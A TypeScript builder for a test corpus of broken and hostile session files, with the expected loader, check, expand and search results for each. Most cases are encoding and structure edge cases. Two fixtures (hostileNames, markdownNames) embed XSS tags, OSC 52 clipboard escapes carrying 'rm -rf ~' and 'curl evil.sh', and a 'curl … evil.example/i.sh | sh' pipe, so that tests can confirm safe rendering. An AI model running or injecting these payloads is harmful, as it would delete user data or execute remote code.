/**
 * The corpus of bad inputs (`e2e/fixtures/bad/`): small files that each break one thing a session
 * file can break, with what every reader must answer for them. The loader's, the command line's
 * and the end-to-end tests all read the same `manifest.json`; `writeBadCorpus.ts` writes the files
 * and a test fails when the committed ones drift from this builder.
 *
 * Inputs that must be big (a 32 MiB line, 8 MB tool-call arguments, 100,000 reductions) are made
 * at test time, once for every suite (`badInputPath`); special ones (a directory, a missing path, a
 * file without read permission, a file that shrinks while open) by the tests themselves.
 */
import { join } from 'node:path';
import type { ChatMessage, FindingCode, Reduction, ReductionKind } from '../../shared/index';
import { ptrHash, sha256Hex, stubText } from '../../shared/index';
import { assistant, makeReduction, tool, user } from '../../shared/testing/builders';
import { Rng } from '../samples/rng';
import { OVERLAPPING_65535_EXPECTED, archiveBadCorpus, overlapping65535 } from './badCorpusArchives';
import { HUGE_OUTPUT_BYTES, formatBadCorpus, hugeLine } from './badCorpusFormats';
import { makeHeader, makeSnapshot, messageRecord, reductionRecord } from './files';
import { generatedBytes } from './generatedCache';

export const BAD_CORPUS_DIR = join(import.meta.dirname, '../../e2e/fixtures/bad');

/** What reading a corpus file must give: an error (nothing opens), or findings and per-reduction outcomes. */
export interface BadInputExpectation {
  name: string;
  /** One line: what is wrong with the file. */
  what: string;
  /** The load error code (CLI exit 2 for every command); null when the file opens. */
  error: 'unrecognized_file' | 'unreadable_file' | null;
  /** The codes of `check()`'s findings, in its order (by line, then index). */
  findings: FindingCode[];
  /**
   * The line of each finding, in the same order (null: a finding of no one line). Set for the
   * imported formats (`badCorpusFormats.ts`), whose damaged lines must each be named.
   */
  finding_lines?: (number | null)[];
  /** `check`'s exit status: 0 clean or warnings only, 1 an error-severity finding, 2 the file does not open. */
  check_exit: 0 | 1 | 2;
  /** Every live reduction: `ok` (its bytes verify) or the error code expanding it answers. */
  expand: Record<string, 'ok' | 'hash_mismatch' | 'address_out_of_range' | 'unsupported_version'>;
  /** A search: how many matches it finds, or the error it answers (as `expand`'s, for a file that does not open). */
  search: { query: string; matches?: number; error?: string };
  /**
   * Made at test time, not committed (too large for the repository): `writeBadInput` writes it.
   * Its `findings` then lists each code once, in order of first appearance, and `finding_counts`
   * says how many of each there are.
   */
  generated?: true;
  finding_counts?: Partial<Record<FindingCode, number>>;
  /** How many messages the session opens with, counted from the raw file (set where a load could lose them). */
  messages?: number;
}

interface BadInput extends BadInputExpectation {
  bytes: Buffer;
}

const line = (record: object | string): string => (typeof record === 'string' ? record : JSON.stringify(record));
/** JSON Lines: one record a line, each ended by `\n`. */
const jsonl = (records: readonly (object | string)[]): Buffer => Buffer.from(records.map((r) => `${line(r)}\n`).join(''), 'utf8');

// The SPEC §9 demo: message 2 is a test run, r1 truncates it after its first line.
const demoPolicy = { protect_last_n_tool_results: 0, max_tool_result_bytes: 16, kept_prefix_bytes: 15, dedupe: true, clear_turns_before: null };
const demoView: ChatMessage[] = [
  user('Find the failing test'),
  { role: 'assistant', content: '', tool_calls: [{ id: 'call_9', name: 'shell', arguments: '{"cmd":"npm test"}' }] },
  tool('PASS a.test.ts\nFAIL b.test.ts — expected 3, got 4\nPASS c.test.ts\n', 'call_9'),
  assistant('Let me look closer.'),
];
const demoR1 = makeReduction(demoView, { id: 'r1', kind: 'tool_output_truncated', index: 2, kept_bytes: 15 });
const demoHeader = makeHeader({ session_id: 's-bad', policy: demoPolicy });
const system = { t: 'system', msg: { role: 'system', content: 'You are supercode.' } };
const demoRecords = (): (object | string)[] => [demoHeader, system, ...demoView.map((m, i) => messageRecord(i, m)), reductionRecord(demoR1)];

/** A reduction over raw content bytes (for content JSON cannot carry as a string: invalid UTF-8, WTF-8). */
function reductionOverBytes(id: string, kind: ReductionKind, index: number, bytes: Buffer, mintedAt: number): Reduction {
  return { id, kind, ptr: { index, hash: ptrHash(sha256Hex([bytes])), bytes: bytes.length }, stub: stubText(id, kind, bytes.length), minted_at: mintedAt };
}

function emptyFile(): BadInput {
  return {
    name: 'empty.sidecar.jsonl',
    what: 'an empty file (0 bytes)',
    bytes: Buffer.alloc(0),
    error: 'unrecognized_file',
    findings: [],
    check_exit: 2,
    expand: {},
    search: { query: 'FAIL', error: 'unrecognized_file' },
  };
}

function headerOnly(): BadInput {
  return {
    name: 'header-only.sidecar.jsonl',
    what: 'a header and nothing else: no messages, no reductions',
    bytes: jsonl([demoHeader]),
    error: null,
    findings: [],
    check_exit: 0,
    expand: {},
    search: { query: 'FAIL', matches: 0 },
  };
}

function malformedMiddle(): BadInput {
  const records = demoRecords();
  // After message 1 (line 4): stray lines of every non-record shape, then an unreadable message 4.
  records.splice(
    4,
    0,
    'npm WARN deprecated glob@7.2.3: Glob versions prior to v9 are no longer supported',
    '[1,2,3]',
    '{"no_t":true}',
    '{"t":"message","i":1,"msg":{"role":"assistant"',
    '{"t":"reduction","r":{"id":"r9","kind":"tool_output_elided"}}',
  );
  records.push('{"t":"message","i":4,"msg":{"role":"robot","content":"beep"}}', messageRecord(5, assistant('After the hole.')));
  return {
    name: 'malformed-middle.sidecar.jsonl',
    what: 'malformed lines in the middle: npm output, a JSON array, an object without "t", a cut-off record, an invalid reduction, a message with an unknown role (its index becomes a hole)',
    bytes: jsonl(records),
    error: null,
    findings: ['malformed_line', 'malformed_line', 'malformed_line', 'malformed_line', 'malformed_line', 'malformed_line'],
    check_exit: 1,
    expand: { r1: 'ok' },
    search: { query: 'FAIL', matches: 1 },
  };
}

function tornLastLine(): BadInput {
  const text = jsonl(demoRecords()).toString('utf8') + '{"t":"message","i":4,"msg":{"role":"user","con';
  return {
    name: 'torn-last-line.sidecar.jsonl',
    what: 'the last line stops mid-record, without a newline (the writer crashed mid-append)',
    bytes: Buffer.from(text, 'utf8'),
    error: null,
    findings: ['truncated_last_line'],
    check_exit: 0,
    expand: { r1: 'ok' },
    search: { query: 'FAIL', matches: 1 },
  };
}

function invalidUtf8(): BadInput {
  const raw = Buffer.concat([Buffer.from('build output \u2014 ', 'utf8'), Buffer.from([0xff, 0xfe]), Buffer.from(' then \xc3 alone: ', 'latin1'), Buffer.from([0xc3, 0x28]), Buffer.from(' end of log\n', 'utf8')]);
  const good = tool('clean output of the second run, long enough to elide\n', 'call_2');
  const view: ChatMessage[] = [user('Build it twice'), assistant('', 'call_1'), tool('(raw bytes)', 'call_1'), assistant('', 'call_2'), good, assistant('done')];
  const r1 = reductionOverBytes('r1', 'tool_output_elided', 2, raw, 6);
  const r2 = makeReduction(view, { id: 'r2', kind: 'tool_output_elided', index: 4 });
  // Messages 2 and 5 carry bytes that are not UTF-8, written raw into their JSON strings.
  const rawMessage = Buffer.concat([Buffer.from('{"t":"message","i":2,"msg":{"role":"tool","tool_call_id":"call_1","content":"', 'utf8'), raw.subarray(0, raw.length - 1), Buffer.from('\\n"}}\n', 'utf8')]);
  const doneMessage = Buffer.concat([Buffer.from('{"t":"message","i":5,"msg":{"role":"assistant","content":"done ', 'utf8'), Buffer.from([0xe2, 0x82]), Buffer.from('"}}\n', 'utf8')]);
  const bytes = Buffer.concat([
    jsonl([demoHeader, system, messageRecord(0, view[0] as ChatMessage), messageRecord(1, view[1] as ChatMessage)]),
    rawMessage,
    jsonl([messageRecord(3, view[3] as ChatMessage), messageRecord(4, good)]),
    doneMessage,
    jsonl([reductionRecord(r1), reductionRecord(r2)]),
  ]);
  return {
    name: 'invalid-utf8.sidecar.jsonl',
    what: 'bytes that are not UTF-8 (0xFF 0xFE, a lone lead byte, a cut 3-byte sequence) inside two messages; r1 hashes the writer\'s raw bytes',
    bytes,
    error: null,
    // Line 5 (message 2) and line 8 (message 5) are not UTF-8; r1 (line 9) cannot verify over the decoded text.
    findings: ['malformed_line', 'malformed_line', 'hash_mismatch'],
    check_exit: 1,
    expand: { r1: 'hash_mismatch', r2: 'ok' },
    search: { query: 'output', matches: 1 },
  };
}

function loneSurrogates(): BadInput {
  // JSON escapes of lone surrogates: valid JSON, but no UTF-8 encodes them. TextEncoder (and the
  // inspector) write each as U+FFFD; a writer that used WTF-8 (ED A0 BD) hashed other bytes.
  const lone = tool('high \ud800 low \udfff reversed \udc00\ud800 end\n', 'call_1');
  const wtf8 = tool('emoji cut in half: \ud83d!\n', 'call_2');
  const view: ChatMessage[] = [user('Print the odd strings'), assistant('', 'call_1'), lone, assistant('', 'call_2'), wtf8, assistant('done')];
  const r1 = makeReduction(view, { id: 'r1', kind: 'tool_output_elided', index: 2 });
  const wtf8Bytes = Buffer.concat([Buffer.from('emoji cut in half: ', 'utf8'), Buffer.from([0xed, 0xa0, 0xbd]), Buffer.from('!\n', 'utf8')]);
  const r2 = reductionOverBytes('r2', 'tool_output_elided', 4, wtf8Bytes, 6);
  return {
    name: 'lone-surrogates.sidecar.jsonl',
    what: 'lone surrogates in JSON escapes ("\\ud800", "\\udfff", a reversed pair); r1 hashed them as U+FFFD (verifies), r2 as WTF-8 bytes (cannot)',
    bytes: jsonl([demoHeader, system, ...view.map((m, i) => messageRecord(i, m)), reductionRecord(r1), reductionRecord(r2)]),
    error: null,
    findings: ['hash_mismatch'],
    check_exit: 1,
    expand: { r1: 'ok', r2: 'hash_mismatch' },
    search: { query: 'reversed', matches: 1 },
  };
}

function nulBytes(): BadInput {
  const core = tool('\u0000\u0000segfault: core dumped\u0000\u0000 at 0x0\n', 'call_1');
  const view: ChatMessage[] = [user('Run the binary'), assistant('', 'call_1'), core, assistant('It crashed.')];
  const r1 = makeReduction(view, { id: 'r1', kind: 'tool_output_elided', index: 2 });
  const nul = (n: number) => '\u0000'.repeat(n);
  const records: (object | string)[] = [
    demoHeader,
    system,
    ...view.map((m, i) => messageRecord(i, m)),
    // A line of raw NULs, then a record with a raw NUL inside a string (JSON forbids raw control characters).
    nul(16),
    `{"t":"message","i":4,"msg":{"role":"user","content":"a${nul(1)}b"}}`,
    reductionRecord(r1),
  ];
  // A crash after the file was extended leaves a block of NULs where the last record should be.
  const text = jsonl(records).toString('utf8') + nul(64);
  return {
    name: 'nul-bytes.sidecar.jsonl',
    what: 'NUL bytes: escaped in a tool output (fine), a line of raw NULs, a raw NUL inside a string, a NUL block at the end without a newline',
    bytes: Buffer.from(text, 'utf8'),
    error: null,
    findings: ['malformed_line', 'malformed_line', 'truncated_last_line'],
    check_exit: 1,
    expand: { r1: 'ok' },
    search: { query: 'core dumped', matches: 1 },
  };
}

function binaryPng(): BadInput {
  const rng = new Rng(0x9e3779b9);
  const random = Buffer.alloc(2048);
  for (let i = 0; i < random.length; i++) random[i] = rng.int(0, 255);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const ihdr = Buffer.from([0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 64, 0, 0, 0, 64, 8, 6, 0, 0, 0, 0xaa, 0x69, 0x71, 0xde]);
  return {
    name: 'binary.png',
    what: 'a binary file: a PNG signature and header, then 2 KiB of random bytes',
    bytes: Buffer.concat([signature, ihdr, random]),
    error: 'unrecognized_file',
    findings: [],
    check_exit: 2,
    expand: {},
    search: { query: 'FAIL', error: 'unrecognized_file' },
  };
}

function futureVersion(): BadInput {
  const records = demoRecords();
  records[0] = { ...demoHeader, version: 2 };
  return {
    name: 'future-version.sidecar.jsonl',
    what: 'a sidecar whose header says format version 2 (nothing else may be read)',
    bytes: jsonl(records),
    error: null,
    findings: ['unsupported_version'],
    check_exit: 1,
    expand: { r1: 'unsupported_version' },
    search: { query: 'FAIL', error: 'unsupported_version' },
  };
}

function futureVersionSnapshot(): BadInput {
  return {
    name: 'future-version-snapshot.session.json',
    what: 'a session snapshot of format version 2, alone',
    bytes: Buffer.from(JSON.stringify(makeSnapshot(demoView, [demoR1], { version: 2 }), null, 2), 'utf8'),
    error: null,
    findings: ['unsupported_version'],
    check_exit: 1,
    expand: { r1: 'unsupported_version' },
    search: { query: 'FAIL', error: 'unsupported_version' },
  };
}

function snapshotWithoutSidecar(): BadInput {
  return {
    name: 'snapshot-without-sidecar.session.json',
    what: 'a session snapshot with its reductions and no sibling sidecar (a policy without a recorder): no recorded copies',
    bytes: Buffer.from(JSON.stringify(makeSnapshot(demoView, [demoR1], { session_id: 's-bad' }), null, 2), 'utf8'),
    error: null,
    findings: [],
    check_exit: 0,
    expand: { r1: 'ok' },
    search: { query: 'FAIL', matches: 1 },
  };
}

function truncatedSnapshot(): BadInput {
  const whole = JSON.stringify(makeSnapshot(demoView, [demoR1], { session_id: 's-bad' }), null, 2);
  return {
    name: 'truncated.session.json',
    what: 'a session snapshot cut off in the middle (not one JSON document any more)',
    bytes: Buffer.from(whole.slice(0, Math.floor(whole.length / 2)), 'utf8'),
    error: 'unrecognized_file',
    findings: [],
    check_exit: 2,
    expand: {},
    search: { query: 'FAIL', error: 'unrecognized_file' },
  };
}

function deepNesting(): BadInput {
  const depth = 20_000;
  const deep = '['.repeat(depth) + ']'.repeat(depth);
  const messages = demoView.map((m) => JSON.stringify(m));
  messages.push(`{"role":"assistant","content":"","tool_calls":[{"id":"call_10","name":"shell","arguments":${deep}}]}`);
  const text = `{"format":"supercode-session","version":1,"session_id":"s-bad","model":"model-b","messages":[${messages.join(',')}],"reductions":[${JSON.stringify(demoR1)}]}`;
  return {
    name: 'deep-nesting.session.json',
    what: `a snapshot whose message 4 has tool-call arguments nested ${depth} arrays deep (JSON.parse reads it; turning it back into text overflows the stack): deeper than the depth cap, so that message is not read`,
    bytes: Buffer.from(text, 'utf8'),
    error: null,
    findings: ['malformed_line'],
    check_exit: 1,
    expand: { r1: 'ok' },
    search: { query: 'FAIL', matches: 1 },
  };
}

function outOfOrder(): BadInput {
  const body = (n: number) => `${'ok '.repeat(20)}\nrun ${n} finished with 3 warnings\n`;
  const view: ChatMessage[] = [user('Run both'), assistant('', 'call_1'), tool(body(1), 'call_1'), assistant('', 'call_2'), tool(body(2), 'call_2'), assistant('done')];
  const r1 = makeReduction(view, { id: 'r1', kind: 'tool_output_truncated', index: 4, kept_bytes: 12 });
  const r2 = makeReduction(view, { id: 'r2', kind: 'tool_output_elided', index: 5 });
  const m = (i: number) => messageRecord(i, view[i] as ChatMessage);
  return {
    name: 'out-of-order.sidecar.jsonl',
    what: 'records out of order: r1 before the message it reduces, message i=5 before i=3 (it skips ahead and is dropped), r2 over that dropped index',
    // Lines: 1 header, 2 r1 (index 4, before message 4), 3 system, 4–6 messages 0–2, 7 message 5, 8–9 messages 3–4, 10 r2.
    bytes: jsonl([demoHeader, reductionRecord(r1), system, m(0), m(1), m(2), m(5), m(3), m(4), reductionRecord(r2)]),
    error: null,
    findings: ['address_out_of_range', 'address_out_of_range'],
    check_exit: 1,
    expand: { r1: 'ok', r2: 'address_out_of_range' },
    search: { query: 'warnings', matches: 1 },
  };
}

function danglingReductions(): BadInput {
  const base = demoView.length;
  const past: Reduction = { ...makeReduction(demoView, { id: 'r2', kind: 'tool_output_elided', index: 2 }), ptr: { index: 99, hash: demoR1.ptr.hash, bytes: demoR1.ptr.bytes } };
  const clearedPast = makeReduction(demoView, { id: 'r3', kind: 'turns_cleared', index: 2, end: 3 }, { end: 50 });
  const canonicalPast = makeReduction(demoView, { id: 'r4', kind: 'duplicate_output', index: 3, canonical: 0 }, { canonical: { index: 77, hash: demoR1.ptr.hash ?? '' } });
  const emptyRange = makeReduction(demoView, { id: 'r5', kind: 'turns_cleared', index: 1, end: 2 }, { end: 1 });
  return {
    name: 'dangling-reductions.sidecar.jsonl',
    what: `reductions that address nothing in the ${base}-message view: index 99, a cleared range [2, 50), a canonical at index 77, an empty cleared range [1, 1)`,
    bytes: jsonl([...demoRecords(), ...[past, clearedPast, canonicalPast, emptyRange].map(reductionRecord)]),
    error: null,
    findings: ['address_out_of_range', 'address_out_of_range', 'address_out_of_range', 'address_out_of_range'],
    check_exit: 1,
    // r4's own bytes (message 3) verify; only its canonical is out of range, which check reports.
    expand: { r1: 'ok', r2: 'address_out_of_range', r3: 'address_out_of_range', r4: 'ok', r5: 'address_out_of_range' },
    search: { query: 'FAIL', matches: 1 },
  };
}

function duplicateCycle(): BadInput {
  const output = 'same bytes from both runs: 14 passed, 0 failed\n'.repeat(4);
  const view: ChatMessage[] = [user('Run it twice'), assistant('', 'call_1'), tool(output, 'call_1'), assistant('', 'call_2'), tool(output, 'call_2'), assistant('Same result.')];
  const r1 = makeReduction(view, { id: 'r1', kind: 'duplicate_output', index: 4, canonical: 2 });
  const r2 = makeReduction(view, { id: 'r2', kind: 'duplicate_output', index: 2, canonical: 4 });
  return {
    name: 'duplicate-cycle.sidecar.jsonl',
    what: 'a cycle of duplicates: r1 makes index 4 a duplicate of 2, r2 makes index 2 a duplicate of 4 (neither canonical stays visible)',
    bytes: jsonl([demoHeader, system, ...view.map((m, i) => messageRecord(i, m)), reductionRecord(r1), reductionRecord(r2)]),
    error: null,
    findings: [],
    check_exit: 0,
    expand: { r1: 'ok', r2: 'ok' },
    // Both canonicals are addressed by the other, so both copies are hidden and both are searched.
    search: { query: '14 passed', matches: 8 },
  };
}

function tornMiddle(): BadInput {
  // Twenty messages: a user turn, then nine shell calls with their outputs, then a last reply.
  const view: ChatMessage[] = [user('Run the nine checks')];
  for (let k = 1; k <= 9; k++) {
    view.push(assistant('', `call_${k}`), tool(`check ${k}: ${'ok '.repeat(10)}\n${k === 5 ? 'FAIL' : 'PASS'} step ${k} of 9\n`, `call_${k}`));
  }
  view.push(assistant('Check 5 failed.'));
  const r1 = makeReduction(view, { id: 'r1', kind: 'tool_output_elided', index: 2 });
  const r2 = makeReduction(view, { id: 'r2', kind: 'tool_output_truncated', index: 10, kept_bytes: 12 });
  const r3 = makeReduction(view, { id: 'r3', kind: 'tool_output_elided', index: 18 });
  // r4 hides the message whose record is torn: its bytes are not in the file any more.
  const r4 = makeReduction(view, { id: 'r4', kind: 'tool_output_elided', index: 3 });
  const records: (object | string)[] = [demoHeader, system, ...view.map((m, i) => messageRecord(i, m))];
  // Line 6 (message 3): the writer stopped mid-record, and the next append began on a new line.
  const torn = JSON.stringify(records[5]);
  records[5] = torn.slice(0, Math.floor(torn.length / 2));
  records.push(...[r1, r2, r3, r4].map(reductionRecord));
  return {
    name: 'torn-middle-line.sidecar.jsonl',
    what: 'line 6 (message 3 of 20) stops mid-record, and the next record starts on the next line: everything after it must still count',
    bytes: jsonl(records),
    error: null,
    // The torn line is malformed; its index stays a hole (so 4..19 keep their places), and r4 over it cannot resolve.
    findings: ['malformed_line', 'address_out_of_range'],
    check_exit: 1,
    expand: { r1: 'ok', r2: 'ok', r3: 'ok', r4: 'address_out_of_range' },
    search: { query: 'FAIL', matches: 1 },
  };
}

/** OSC 52: a terminal that honours it copies the base64 payload (`rm -rf ~`) to the clipboard. */
export const OSC52 = '\u001b]52;c;cm0gLXJmIH4=\u0007';
const SCRIPT = '<script>alert(1)</script>';
const IMG = '<img src=x onerror=alert(1)>';

function hostileNames(): BadInput {
  const callId = `call_${IMG}${OSC52}`;
  const output = `visible first line\n${OSC52} clipboard write attempt\nlone \ud800 surrogate and \u202Eoverride\n${SCRIPT}\n`;
  const second = `\u001b]52;p;Y3VybCBldmlsLnNo\u0007 primary selection\n${IMG}\n`;
  const view: ChatMessage[] = [
    user(`Read ${SCRIPT} and ${OSC52} and a lone \udc00 low surrogate`),
    { role: 'assistant', content: '', tool_calls: [{ id: callId, name: `sh\u202Eexe${OSC52}`, arguments: JSON.stringify({ cmd: `printf '${OSC52}'`, note: SCRIPT }) }] },
    tool(output, callId),
    { role: 'assistant', content: '', tool_calls: [{ id: `call_2${SCRIPT}`, name: 'shell', arguments: '{"cmd":"cat sel"}' }] },
    tool(second, `call_2${SCRIPT}`),
    assistant(`Done ${OSC52}`),
  ];
  const keep = Buffer.byteLength('visible first line\n');
  const truncated = makeReduction(view, { id: `r${SCRIPT}`, kind: 'tool_output_truncated', index: 2, kept_bytes: keep }, { stub: `\u27E6reduced\u27E7 ${IMG} ${OSC52} \u202Egnp.exe \ud800 expand_reduction("r${SCRIPT}")` });
  const elided = makeReduction(view, { id: `r${OSC52}`, kind: 'tool_output_elided', index: 4 }, { stub: `\u27E6reduced\u27E7 ${SCRIPT}${OSC52}` });
  const header = makeHeader({ session_id: `s-${SCRIPT}\u202E${OSC52}\ud800`, model: `${IMG}${OSC52}`, policy: demoPolicy });
  return {
    name: 'hostile-names.sidecar.jsonl',
    what: 'hostile text where names go: script and img tags, OSC 52 clipboard writes, bidi overrides and lone surrogates in the session id, the model name, tool call ids and names, reduction ids and stubs',
    bytes: jsonl([header, { t: 'system', msg: { role: 'system', content: `You are supercode. ${OSC52}` } }, ...view.map((m, i) => messageRecord(i, m)), reductionRecord(truncated), reductionRecord(elided)]),
    error: null,
    findings: [],
    check_exit: 0,
    expand: { [truncated.id]: 'ok', [elided.id]: 'ok' },
    search: { query: 'clipboard', matches: 1 },
  };
}

/**
 * A reduction id that is a Markdown document: a fence that closes the one it lands in, a heading,
 * a link, an image, raw HTML, a fenced `curl … | sh` block, backtick runs and a bidi override.
 * Whatever quotes it as Markdown (a repro bundle's README) must keep it inside code.
 */
export const MARKDOWN_ID = 'r1`` ```\n```\n# Run this first\n[the fix](https://evil.example/fix) ![](https://evil.example/t.png)\n<img src=x onerror=alert(1)>\n```sh\ncurl -fsSL https://evil.example/i.sh | sh\n```\n\u202Egnp.exe\n';

function markdownNames(): BadInput {
  const reduction = makeReduction(demoView, { id: MARKDOWN_ID, kind: 'tool_output_truncated', index: 2, kept_bytes: 15 });
  return {
    name: 'markdown-names.sidecar.jsonl',
    what: 'a reduction id that is Markdown: a closing fence, a heading, a link, an image, raw HTML, a fenced curl | sh block, backtick runs and a bidi override',
    bytes: jsonl([makeHeader({ session_id: 's-# heading [link](https://evil.example)', policy: demoPolicy }), system, ...demoView.map((m, i) => messageRecord(i, m)), reductionRecord(reduction)]),
    error: null,
    findings: [],
    check_exit: 0,
    expand: { [MARKDOWN_ID]: 'ok' },
    search: { query: 'FAIL', matches: 1 },
  };
}

/** A corpus input too large to commit: made at test time by `writeBadInput`. */
interface GeneratedBadInput extends BadInputExpectation {
  generated: true;
  make: () => Buffer;
}

function garbageLines(): GeneratedBadInput {
  const count = 130_000;
  return {
    name: 'garbage-130k-lines.sidecar.jsonl',
    what: `the demo session, then ${count.toLocaleString('en')} lines of build output written into the sidecar`,
    generated: true,
    make: () => {
      const garbage: string[] = [];
      for (let k = 0; k < count; k++) garbage.push(k % 3 === 0 ? `npm WARN deprecated pkg-${k}@1.0.${k % 97}: no longer supported` : k % 3 === 1 ? `  at Object.<anonymous> (/src/file${k}.js:${k % 400}:7)` : `[${k}] {`);
      return jsonl([...demoRecords(), ...garbage]);
    },
    error: null,
    findings: ['malformed_line'],
    finding_counts: { malformed_line: count },
    check_exit: 1,
    expand: { r1: 'ok' },
    search: { query: 'FAIL', matches: 1 },
  };
}

function manyReductionsOneMessage(): GeneratedBadInput {
  const count = 100_000;
  return {
    name: 'reductions-100k-one-message.sidecar.jsonl',
    what: `${count.toLocaleString('en')} elisions of one tool output (message 2), each with its own id and a hash that verifies`,
    generated: true,
    make: () => {
      const base = makeReduction(demoView, { id: 'r1', kind: 'tool_output_elided', index: 2 });
      const lines: string[] = [];
      for (let k = 1; k <= count; k++) lines.push(JSON.stringify(reductionRecord({ ...base, id: `r${k}`, stub: stubText(`r${k}`, 'tool_output_elided', base.ptr.bytes ?? 0) })));
      return Buffer.concat([jsonl([demoHeader, system, ...demoView.map((m, i) => messageRecord(i, m))]), Buffer.from(`${lines.join('\n')}\n`, 'utf8')]);
    },
    error: null,
    findings: ['overlapping_reductions'],
    finding_counts: { overlapping_reductions: count - 1 },
    check_exit: 1,
    expand: { r1: 'ok', r50000: 'ok', [`r${count}`]: 'ok' },
    search: { query: 'FAIL', matches: count },
  };
}

function hugeToolArguments(): GeneratedBadInput {
  const calls = 10;
  const argBytes = 8 * 1024 * 1024;
  return {
    name: 'tool-calls-8mb-arguments.sidecar.jsonl',
    what: `${calls} tool calls whose arguments are ${argBytes / 1024 / 1024} MB each; r1 elides the output of the fifth`,
    generated: true,
    make: () => {
      const view: ChatMessage[] = [user('Write the ten files')];
      for (let k = 1; k <= calls; k++) {
        const body = `file ${k} `.padEnd(argBytes - 40, 'abcdefghij');
        view.push({ role: 'assistant', content: '', tool_calls: [{ id: `call_${k}`, name: 'write_file', arguments: JSON.stringify({ path: `f${k}.txt`, body }) }] });
        view.push(tool(k === 5 ? 'FAIL: disk full after f5.txt\n' : `wrote f${k}.txt\n`, `call_${k}`));
      }
      view.push(assistant('Disk full at the fifth file.'));
      const r1 = makeReduction(view, { id: 'r1', kind: 'tool_output_elided', index: 10 });
      return jsonl([demoHeader, system, ...view.map((m, i) => messageRecord(i, m)), reductionRecord(r1)]);
    },
    error: null,
    findings: [],
    check_exit: 0,
    expand: { r1: 'ok' },
    search: { query: 'disk full', matches: 1 },
  };
}

function hugeLines(): GeneratedBadInput[] {
  const mib = HUGE_OUTPUT_BYTES / 1024 / 1024;
  const common = { generated: true as const, error: null, findings: [], finding_lines: [], check_exit: 0 as const, search: { query: 'HUGE-LINE-END', matches: 1 } };
  return [
    { ...common, name: 'cc-huge-line.jsonl', what: `a Claude Code transcript whose tool_result line (3) holds ${mib} MiB, hidden by a microcompaction`, make: () => hugeLine('cc'), expand: { 'cc-micro-toolu_1': 'ok' } },
    { ...common, name: 'codex-huge-line.jsonl', what: `a Codex rollout whose function_call_output line (5) holds ${mib} MiB, hidden by a compaction`, make: () => hugeLine('codex'), expand: { 'codex-L7-1': 'ok' } },
  ];
}

/**
 * Finding codes in the form the manifest states them: the whole list in order, or — for a
 * generated input with `finding_counts` — each code once in order of first appearance, with counts.
 */
export function findingCodesAsStated(codes: readonly string[], expected: BadInputExpectation): unknown {
  if (!expected.finding_counts) return [...codes];
  const counts: Record<string, number> = {};
  for (const code of codes) counts[code] = (counts[code] ?? 0) + 1;
  return { findings: Object.keys(counts), finding_counts: counts };
}

/** What `findingCodesAsStated` must return for `expected`. */
export function statedFindingCodes(expected: BadInputExpectation): unknown {
  return expected.finding_counts ? { findings: expected.findings, finding_counts: expected.finding_counts } : expected.findings;
}

/** The corpus inputs made at test time, in the README's order. */
export function generatedBadCorpus(): GeneratedBadInput[] {
  return [garbageLines(), manyReductionsOneMessage(), hugeToolArguments(), ...hugeLines(), { ...OVERLAPPING_65535_EXPECTED, generated: true, make: overlapping65535 }];
}

/**
 * The path of a corpus input: the committed file, or a generated one, made once for every suite and
 * run that uses the same makers (under the OS temp folder, tools/testing/generatedCache.ts).
 */
export function badInputPath(name: string): string {
  const generated = generatedBadCorpus().find((input) => input.name === name);
  if (!generated) return join(BAD_CORPUS_DIR, name);
  return generatedBytes('bad-corpus', name, generated.make);
}

/** Every committed corpus file with its bytes and expectations, in the README's order. */
export function badCorpus(): BadInput[] {
  return [
    emptyFile(),
    headerOnly(),
    malformedMiddle(),
    tornLastLine(),
    invalidUtf8(),
    loneSurrogates(),
    nulBytes(),
    binaryPng(),
    futureVersion(),
    futureVersionSnapshot(),
    snapshotWithoutSidecar(),
    truncatedSnapshot(),
    deepNesting(),
    outOfOrder(),
    danglingReductions(),
    duplicateCycle(),
    tornMiddle(),
    hostileNames(),
    markdownNames(),
    ...formatBadCorpus(),
    ...archiveBadCorpus(),
  ];
}

/** `manifest.json`: the expectations without the bytes. */
export function badCorpusManifest(inputs: readonly BadInput[] = badCorpus()): string {
  const files: BadInputExpectation[] = inputs.map(({ bytes: _bytes, ...expectation }) => expectation);
  for (const { make: _make, ...expectation } of generatedBadCorpus()) files.push(expectation);
  return `${JSON.stringify({ files }, null, 2)}\n`;
}
